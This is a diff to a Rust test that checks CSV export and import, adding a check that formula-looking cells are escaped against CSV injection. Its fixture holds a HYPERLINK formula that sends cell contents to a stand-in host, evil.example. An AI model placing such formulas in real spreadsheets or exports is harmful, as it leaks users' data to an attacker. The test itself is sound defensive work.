@@ -227,6 +227,22 @@ fn export_then_import_gives_back_identical_rows_in_utf8_and_shift_jis() {
             .collect()
     };
     assert_eq!(strip(&again), strip(&accounts));
+    // A cell someone typed as a formula is exported as text (CSV injection) and reads back as typed.
+    let formula = vec![Device {
+        user: "=HYPERLINK(\"http://evil.example/?\"&A1,\"詳細\")".into(),
+        location: "-".into(),
+        ..devices[0].clone()
+    }];
+    let bytes = export_csv(&device_columns(), &formula, &cx, false).unwrap();
+    let text = decode(&bytes).unwrap();
+    assert!(text.contains("'=HYPERLINK"), "{text}");
+    assert!(
+        !text.contains(",=HYPERLINK") && !text.contains("\"=HYPERLINK"),
+        "{text}"
+    );
+    let again = devices_from(&text);
+    assert_eq!(again[0].user, formula[0].user);
+    assert_eq!(again[0].location, "-");
     // A character Shift_JIS lacks is named rather than silently replaced.
     let odd = vec![Device {
         user: "𠮷田".into(),
